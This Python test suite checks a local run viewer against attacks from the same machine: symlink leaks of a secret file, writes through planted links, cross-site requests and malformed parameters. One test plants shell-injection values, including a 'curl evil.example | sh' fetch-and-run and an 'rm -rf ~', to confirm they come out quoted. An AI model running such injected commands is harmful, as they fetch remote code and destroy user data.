"""``odie view`` attacked on purpose from the same machine (issue 26, rows V1 to V9).

A secret file sits outside every run; links to it are planted where a local user
who can write to a shared run folder would plant them. Nothing of it may ever be
served, no request may crash the server or answer 500, and no visit may write
through a link.
"""

import asyncio
import os
import resource
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import aiohttp
import orjson
import pytest

from odie_async.files import write_atomic
from odie_async.viewer.access import cache_path
from odie_async.viewer.facets import FacetIndex
from odie_async.viewer.index import LineIndex
from odie_async.viewer.runs import load_runs
from odie_async.viewer.server import serve

SECRET = b"TOP-SECRET-0xC0FFEE"
ODIE = [sys.executable, "-m", "odie_async"]


from tests.test_viewer import _jsonl, _own_cache  # noqa: E402,F401  (_own_cache: an autouse fixture)


def _secret(tmp_path) -> Path:
    secret = tmp_path / "outside" / "secret.jsonl"
    secret.parent.mkdir()
    secret.write_bytes(b'{"id": "' + SECRET + b'", "reasons": []}\n')
    return secret


async def _get(url, **kw):
    async with aiohttp.ClientSession() as session, session.get(url, **kw) as response:
        return response.status, await response.read()


def _serving(runs, check, host="127.0.0.1"):
    async def main():
        runner, url = await serve(load_runs([str(r) for r in runs]), host, 0)
        try:
            await check(url)
        finally:
            await runner.cleanup()

    asyncio.run(main())


# -- V1: only what was named -----------------------------------------------------------------------

def test_v1_links_out_of_a_run_are_listed_and_never_followed(tmp_path):
    secret = _secret(tmp_path)
    run = tmp_path / "run"
    run.mkdir()
    _jsonl(run / "kept.jsonl", [{"id": "k", "reasons": []}])
    (run / "leak.jsonl").symlink_to(secret)
    (run / "summary.json").symlink_to(secret)
    (run / "inside.jsonl").symlink_to(run / "kept.jsonl")  # a link that stays inside is served
    bench = tmp_path / "bench"
    bench.mkdir()
    results = {"base_url": "http://x/v1", "workload": "w", "points": [], "stop_reason": "done", "recommended": None}
    (bench / "results.json").write_bytes(orjson.dumps(results))
    (bench / "recommended.yaml").symlink_to(secret)
    out = tmp_path / "batch" / "out.jsonl"
    out.parent.mkdir()
    _jsonl(out, [{"custom_id": "a", "response": None, "error": None}])
    (out.parent / "out.errors.jsonl").symlink_to(secret)

    async def check(url):
        status, body = await _get(url + "api/runs")
        listed = orjson.loads(body)
        assert status == 200
        assert listed[0]["files"] == ["inside.jsonl", "kept.jsonl"] and listed[0]["links"] == ["leak.jsonl"]
        assert listed[2]["links"] == ["out.errors.jsonl"]
        bodies = []
        for path in ("api/runs/0/files/leak.jsonl/rows", "api/runs/0/files/leak.jsonl/record/0", "api/runs/0/summary",
                     "api/runs/1/bench", "api/runs/2/files/out.errors.jsonl/rows", "api/compare",
                     "api/runs/0/files/inside.jsonl/record/0"):
            status, body = await _get(url + path)
            assert status in (200, 404), path
            bodies.append(body)
        assert all(SECRET not in body for body in bodies)
        assert orjson.loads(bodies[5])  # compare answered
        assert orjson.loads(bodies[-1])["row"]["id"] == "k"

    _serving([tmp_path / "run", bench, out], check)


# -- V2: nothing written through a link ------------------------------------------------------------

def test_v2_write_atomic_never_writes_through_a_planted_link(tmp_path):
    victim = tmp_path / "victim"
    victim.write_bytes(b"precious")
    target = tmp_path / "results.json"
    (tmp_path / "results.json.tmp").symlink_to(victim)  # the temporary name the old writer used
    write_atomic(target, b"new")
    assert victim.read_bytes() == b"precious" and target.read_bytes() == b"new"
    assert oct(target.stat().st_mode & 0o777) == oct(0o666 & ~_umask())
    link = tmp_path / "link.json"
    link.symlink_to(victim)
    write_atomic(link, b"replaced")  # the link itself is replaced, its target left alone
    assert victim.read_bytes() == b"precious" and not link.is_symlink() and link.read_bytes() == b"replaced"


def _umask() -> int:
    mask = os.umask(0o022)
    os.umask(mask)
    return mask


def test_v2_viewing_writes_no_index_through_a_link(tmp_path):
    victim = tmp_path / "victim"
    victim.write_bytes(b"precious")
    run = tmp_path / "run"
    run.mkdir()
    data = _jsonl(run / "dropped.jsonl", [{"id": i, "reasons": ["r"]} for i in range(100)])
    for name in (f"dropped.jsonl.odie-idx.{os.getpid()}.tmp", f"dropped.jsonl.odie-facets.{os.getpid()}.tmp",
                 "dropped.jsonl.odie-idx", "dropped.jsonl.odie-facets"):
        (run / name).symlink_to(victim)
    cached = cache_path(data, ".odie-idx")
    cached.symlink_to(victim)  # even a link in the cache folder is replaced, not written through
    facets = FacetIndex(LineIndex(data), "dropped")
    facets.refresh()
    assert facets.select({"reason": "r"}) == list(range(100))
    assert victim.read_bytes() == b"precious"
    assert not cached.is_symlink() and cached.stat().st_mode & 0o077 == 0
    assert oct(cached.parent.stat().st_mode & 0o777) == "0o700"


# -- V3: nothing shown can run in a shell ----------------------------------------------------------

def test_v3_suggested_command_takes_only_typed_quoted_values(tmp_path):
    bench = tmp_path / "bench"
    bench.mkdir()
    hostile = {"base_url": "http://x/v1$(touch${IFS}/tmp/pwned)", "workload": "w", "points": [], "stop_reason": "done",
               "recommended": {"concurrency": "8; curl evil.example | sh #"},
               "source": {"input": "in.jsonl; rm -rf ~"}}
    (bench / "results.json").write_bytes(orjson.dumps(hostile))
    (bench / "bench.png").write_bytes(b"")

    async def check(url):
        status, body = await _get(url + "api/runs/0/bench")
        command = orjson.loads(body)["command"]
        assert status == 200
        assert "curl" not in command and "--concurrency N" in command
        assert "'in.jsonl; rm -rf ~'" in command and "'http://x/v1$(touch${IFS}/tmp/pwned)'" in command

    _serving([bench], check)


# -- V4: a file shrinking under a search ---------------------------------------------------------------

SHRINK = textwrap.dedent("""
    import os, sys, threading, time
    from odie_async.viewer.index import LineIndex
    try:
        from odie_async.viewer.access import FileChanged
    except ImportError:
        FileChanged = OSError
    path = sys.argv[1]
    line = b'{"text": "' + b"abcdefghij" * 9 + b'"}\\n'
    for attempt in range(2):
        with open(path, "wb") as handle:
            handle.write(line * 600_000)
        index = LineIndex(path)
        index.refresh()
        def scan():
            try:
                index.search(b"ABCDEFGHIJ")  # a hit on every line: the old scan called re once per line
            except FileChanged:
                pass
        worker = threading.Thread(target=scan)
        worker.start()
        time.sleep(0.005)
        os.truncate(path, 4096)
        worker.join()
    print("survived")
""")


def test_v4_a_file_truncated_during_a_search_is_an_error_not_a_crash(tmp_path):
    done = subprocess.run([sys.executable, "-c", SHRINK, str(tmp_path / "big.jsonl")], capture_output=True, text=True,
                          timeout=120, env=os.environ | {"PYTHONPATH": str(Path(__file__).resolve().parents[1])})
    assert done.returncode == 0 and "survived" in done.stdout, (done.returncode, done.stderr[-2000:])


# -- V5: memory in flight bounded, other sites refused ------------------------------------------------------

def _peak_rss_mib(pid: int) -> float:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1]) / 1024
    raise AssertionError("no VmHWM")


def _cap_memory():
    resource.setrlimit(resource.RLIMIT_AS, (4 << 30, 4 << 30))  # the old code would eat the machine


def test_v5_concurrent_requests_for_a_20_mb_record_stay_within_a_memory_bound(tmp_path):
    run = tmp_path / "run"
    run.mkdir()
    big = {"id": "big", "reasons": [], "text": "x" * (20 << 20)}
    _jsonl(run / "kept.jsonl", [{"id": "a", "reasons": []}, big, {"id": "c", "reasons": []}])
    env = os.environ | {"XDG_CACHE_HOME": str(tmp_path / "cache"), "PYTHONPATH": str(Path(__file__).resolve().parents[1])}
    proc = subprocess.Popen(ODIE + ["view", str(run), "--port", "0"], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            text=True, env=env, preexec_fn=_cap_memory)
    try:
        proc.stdout.readline()
        url = proc.stdout.readline().split("open ", 1)[1].strip()
        base = url + "api/runs/0/files/kept.jsonl/"

        async def hammer():
            async with aiohttp.ClientSession(connector=aiohttp.TCPConnector(limit=0)) as session:
                async def one(path):
                    async with session.get(base + path) as response:
                        return response.status, await response.read()
                asked = ["record/1"] * 200 + [f"record/1/raw?page={i % 21}" for i in range(100)] + ["rows"] * 20
                return await asyncio.gather(*(one(p) for p in asked))

        answers = asyncio.run(hammer())
        assert {status for status, _ in answers} == {200}
        record = orjson.loads(answers[0][1])
        assert record["too_large"] and record["pages"] == 21
        pages = asyncio.run(_pages(base, record["pages"]))
        assert orjson.loads(b"".join(pages)) == big  # the pages put together are the record
        peak = _peak_rss_mib(proc.pid)
        assert peak < 400, f"the viewer's peak RSS was {peak:.0f} MiB"
    finally:
        proc.terminate()
        proc.wait(timeout=15)


async def _pages(base, count):
    return [(await _get(base + f"record/1/raw?page={i}"))[1] for i in range(count)]


def test_v5_requests_from_another_site_are_refused_even_on_loopback(tmp_path):
    run = tmp_path / "run"
    run.mkdir()
    _jsonl(run / "kept.jsonl", [{"id": "a"}])

    async def check(url):
        origin = url.rstrip("/")
        assert (await _get(url + "api/runs", headers={"Origin": "http://evil.example"}))[0] == 403
        assert (await _get(url + "api/runs", headers={"Origin": "null"}))[0] == 403
        assert (await _get(url + "api/runs", headers={"Sec-Fetch-Site": "cross-site"}))[0] == 403
        assert (await _get(url + "api/runs", headers={"Sec-Fetch-Site": "same-site"}))[0] == 403
        assert (await _get(url + "api/runs", headers={"Origin": origin, "Sec-Fetch-Site": "same-origin"}))[0] == 200
        assert (await _get(url, headers={"Sec-Fetch-Site": "none"}))[0] == 200

    _serving([run], check)


# -- V6: the index knows its file -------------------------------------------------------------------

def test_v6_a_file_replaced_with_the_same_first_64_kib_is_reindexed(tmp_path):
    head = [{"i": i, "pad": "p" * 200} for i in range(400)]  # well over 64 KiB
    path = _jsonl(tmp_path / "a.jsonl", head + [{"old": i} for i in range(50)])
    assert LineIndex(path).refresh() == 450
    live = LineIndex(path)
    live.refresh()
    replacement = _jsonl(tmp_path / "a.jsonl.new", head + [{"new": i, "longer": "x" * i} for i in range(80)])
    os.replace(replacement, path)  # temp-and-rename: a new inode
    assert live.refresh() == 480 and orjson.loads(live.line(479)) == {"new": 79, "longer": "x" * 79}
    restarted = LineIndex(path)  # a restart: the saved index belongs to the old file
    assert restarted.refresh() == 480
    assert [orjson.loads(raw) for raw in restarted.lines(400, 402)] == [{"new": 0, "longer": ""}, {"new": 1, "longer": "x"}]
    rows = [{"i": i, "pad": "p" * 200} for i in range(400)] + [{"w": i, "more": "y" * (i + 9)} for i in range(80)]
    data = b"".join(orjson.dumps(r) + b"\n" for r in rows)
    assert len(data) > path.stat().st_size
    with open(path, "r+b") as handle:  # rewritten in place: the same inode, more bytes
        handle.write(data)
    assert restarted.refresh() == 480 and orjson.loads(restarted.line(479)) == {"w": 79, "more": "y" * 88}


# -- V8: names that are not UTF-8 --------------------------------------------------------------------

def test_v8_a_file_name_that_is_not_utf8_is_shown_escaped(tmp_path):
    run = tmp_path / "run"
    run.mkdir()
    _jsonl(run / os.fsdecode(b"bad\xff.jsonl"), [{"id": "x", "reasons": []}])
    _jsonl(run / "good.jsonl", [{"id": "y", "reasons": []}])

    async def check(url):
        status, body = await _get(url + "api/runs")
        assert status == 200
        assert orjson.loads(body)[0]["files"] == ["bad\\xff.jsonl", "good.jsonl"]
        status, body = await _get(url + "api/runs/0/files/bad%5Cxff.jsonl/rows")
        assert status == 200 and orjson.loads(body)["rows"][0]["id"] == "x"
        assert (await _get(url + "api/runs/0/files/bad%FF.jsonl/rows"))[0] == 404

    _serving([run], check)


# -- V9: numbers parsed strictly; addresses checked ------------------------------------------------------

def test_v9_numeric_parameters_are_400_when_bad_and_404_when_absent(tmp_path):
    out = tmp_path / "out.jsonl"
    _jsonl(out, [{"custom_id": "a", "response": None, "error": None}])  # out.errors.jsonl does not exist yet
    huge = str(2**64)

    async def check(url):
        files = url + "api/runs/0/files/"
        for path in (f"out.jsonl/rows?offset=%C2%B2", f"out.jsonl/rows?offset={huge}", "out.jsonl/rows?limit=-1",
                     f"out.jsonl/rows?offset={'9' * 5000}", "out.jsonl/record/%C2%B2", f"out.jsonl/record/{'9' * 5000}"):
            assert (await _get(files + path))[0] == 400, path
        assert (await _get(url + f"api/runs/0/metrics?from={huge}"))[0] == 400
        assert (await _get(url + "api/runs/%C2%B2/summary"))[0] == 400
        assert (await _get(url + "api/runs/7/summary"))[0] == 404
        assert (await _get(files + "out.jsonl/record/99999999"))[0] == 404
        assert (await _get(url + "api/runs/0/metrics?from=999999999999"))[0] == 200
        status, body = await _get(files + "out.errors.jsonl/rows?q=anything")
        assert status == 200 and orjson.loads(body)["rows"] == []
        assert (await _get(files + "out.errors.jsonl/rows?status=error"))[0] == 200

    _serving([out], check)


def test_a_last_line_without_its_newline_is_shown(tmp_path):
    path = tmp_path / "out.jsonl"
    path.write_bytes(b'{"custom_id": "a", "error": null}\n{"custom_id": "b", "error": null}')

    async def check(url):
        status, body = await _get(url + "api/runs/0/files/out.jsonl/rows")
        assert status == 200 and [r["id"] for r in orjson.loads(body)["rows"]] == ["a", "b"]

    _serving([path], check)


def test_host_127_0_0_2_answers_its_own_printed_url(tmp_path):
    path = _jsonl(tmp_path / "out.jsonl", [{"custom_id": "a"}])

    async def check(url):
        assert url.startswith("http://127.0.0.2:")
        assert (await _get(url))[0] == 200 and (await _get(url + "api/runs"))[0] == 200

    _serving([path], check, host="127.0.0.2")


@pytest.mark.parametrize("flags", [["--port", "99999"], ["--port", "-1"], ["--host", "not a host"]])
def test_bad_port_or_host_is_exit_2(tmp_path, flags):
    path = _jsonl(tmp_path / "out.jsonl", [{"custom_id": "a"}])
    try:
        done = subprocess.run(ODIE + ["view", str(path), *flags], capture_output=True, text=True, timeout=30,
                              env=os.environ | {"PYTHONPATH": str(Path(__file__).resolve().parents[1])})
    except subprocess.TimeoutExpired:
        pytest.fail(f"odie view {' '.join(flags)} served instead of refusing")
    assert done.returncode == 2 and "Traceback" not in done.stderr and flags[1] in done.stderr
